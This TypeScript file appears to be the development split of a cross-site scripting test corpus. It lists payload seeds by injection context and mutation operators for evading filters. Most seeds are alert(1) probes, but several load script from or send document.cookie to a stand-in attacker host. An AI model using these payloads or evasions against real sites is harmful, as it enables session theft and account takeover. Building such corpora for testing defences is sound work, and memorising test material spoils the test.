// Seeds and operators of the browser of the development half, by the contexts and vectors of the field (the cross-site
// scripting cheat sheets of PortSwigger and OWASP); the held-out half stands in a file of its own (browser.held.data.ts).
import type { Operator, Seed } from "./contract.ts"
import { swap } from "./operator.ts"
import { seeds } from "./seed.ts"

export const BROWSER_SEEDS: readonly Seed[] = [
    ...seeds("dev", "body", [
        "<script>alert(1)</script>",
        "<script src=//evil.example/x.js></script>",
        "<script>new Image().src='//evil.example/?c='+document.cookie</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<body onload=alert(1)>",
        "<input onfocus=alert(1) autofocus>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        '<iframe srcdoc="<script>alert(1)</script>">',
        "<a href=javascript:alert(1)>x</a>",
        "<form action=javascript:alert(1)><input type=submit>",
        "<button formaction=javascript:alert(1) form=f>x</button><form id=f>",
        "<div onmouseover=alert(1)>x</div>",
        "<div onclick=alert(1)>x</div>",
        "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>",
        "<img src=x onerror=fetch('//evil.example/?'+document.cookie)>",
        "<base href=//evil.example/>",
        "<xss onpointerenter=alert(1)>x</xss>",
    ]),
    ...seeds("dev", "double", [
        '"><script>alert(1)</script>',
        '"><img src=x onerror=alert(1)>',
        '" onfocus=alert(1) autofocus x="',
        '" onmouseover="alert(1)',
        '"><svg onload=alert(1)>',
        '" autofocus onfocus="alert(1)" x="',
    ]),
    ...seeds("dev", "single", [
        "'><script>alert(1)</script>",
        "' onfocus='alert(1)' autofocus x='",
        "'><img src=x onerror=alert(1)>",
    ]),
    ...seeds("dev", "unquoted", [
        "x onfocus=alert(1) autofocus",
        "x><script>alert(1)</script>",
        "x onmouseover=alert(1)",
    ]),
    ...seeds("dev", "href", [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\nscript:alert(1)",
        " javascript:alert(1)",
        "javascript://%0aalert(1)",
    ]),
    ...seeds("dev", "src", ["javascript:alert(1)", "javascript:alert(document.cookie)"]),
    ...seeds("dev", "event", ["');alert(1)//", "'-alert(1)-'", "');alert(1);show('", "'+alert(1)+'"]),
    ...seeds("dev", "js double", [
        '";alert(1)//',
        '"-alert(1)-"',
        '";alert(1);"',
        "</script><script>alert(1)</script>",
        '"+alert(1)+"',
    ]),
    ...seeds("dev", "js single", [
        "';alert(1)//",
        "'-alert(1)-'",
        "</script><img src=x onerror=alert(1)>",
        "';fetch('//evil.example/'+document.cookie)//",
    ]),
    ...seeds("dev", "js template", ["${alert(1)}", "`;alert(1)//", "`-alert(1)-`"]),
    ...seeds("dev", "js number", ["alert(1)", "1;alert(1)", "0||alert(1)", "1-alert(1)"]),
    ...seeds("dev", "js escaped", ["\\';alert(1)//", "</script><svg onload=alert(1)>"]),
    ...seeds("dev", "comment", [
        "--><script>alert(1)</script>",
        "--><img src=x onerror=alert(1)>",
        "--!><svg onload=alert(1)>",
    ]),
    ...seeds("dev", "textarea", ["</textarea><script>alert(1)</script>", "</textarea><svg onload=alert(1)>"]),
    ...seeds("dev", "title", ["</title><script>alert(1)</script>", "</title><img src=x onerror=alert(1)>"]),
]

const eachCase = (word: string): string => Array.from(word, (c, at) => (at % 2 === 0 ? c.toUpperCase() : c)).join("")
const entity = (text: string): string => Array.from(text, (c) => `&#${c.charCodeAt(0)};`).join("")
const entityHex = (text: string): string => Array.from(text, (c) => `&#x${c.charCodeAt(0).toString(16)};`).join("")

export const BROWSER_OPERATORS: readonly Operator[] = [
    swap("dev", "case", /<\/?[a-z]+|\bon[a-z]+(?==)|javascript(?=:)/g, [eachCase, (word) => word.toUpperCase()]),
    swap("dev", "white space in tags", /(?<=<[^>]*) (?=[a-z])/g, ["/", "\n", "\t", "  ", "\r\n"]),
    swap("dev", "quoted values", /(?<=on[a-z]+=)alert\(1\)(?=[ >])/g, ['"alert(1)"', "'alert(1)'", '"alert(1)//"']),
    swap("dev", "entities", /(?<==["']?|:)alert(?=\(1\)[ >"'])/g, [
        entity,
        entityHex,
        (word) => `&#97;${word.slice(1)}`,
    ]),
    swap("dev", "other calls", /\balert\(1\)/g, [
        "confirm(1)",
        "prompt(1)",
        "alert`1`",
        "(alert)(1)",
        "alert?.(1)",
        "window.alert(1)",
        "window['alert'](1)",
        "top['al'+'ert'](1)",
        "alert(document.domain)",
        "alert(document.cookie)",
        "print()",
    ]),
    swap("dev", "built code", /\balert\(1\)/g, [
        "eval('alert(1)')",
        "eval('al'+'ert(1)')",
        "Function('alert(1)')()",
        "setTimeout('alert(1)')",
        "[].constructor.constructor('alert(1)')()",
        "eval(atob('YWxlcnQoMSk='))",
        "eval(String.fromCharCode(97,108,101,114,116,40,49,41))",
    ]),
    swap("dev", "escapes in names", /\balert(?=\(1\))/g, ["\\u0061lert", "al\\u0065rt", "\\u{61}lert"]),
    swap("dev", "comments in code", /\balert\(1\)/g, [
        "alert/**/(1)",
        "/**/alert(1)/**/",
        "alert(/**/1)",
        "alert(1)//",
    ]),
    swap("dev", "script address", /javascript:/g, [
        "java\tscript:",
        "javascript:\n",
        "javascript:void(0);",
        "javascript:/**/",
        "\x01javascript:",
    ]),
    swap("dev", "text before", /^/g, ["hello ", "<b>", "x", "お便り "]),
    swap("dev", "text after", /$/g, [" ", "<!--", "//", ">"]),
    swap("dev", "closing tags", /<\/script>/g, ["</script >", "</script\n>", "</SCRIPT>", "</script x>"]),
    swap("dev", "other tags", /<img src=x onerror=/g, [
        "<svg onload=",
        "<image src=x onerror=",
        "<video src=x onerror=",
        "<img/src/onerror=",
    ]),
]
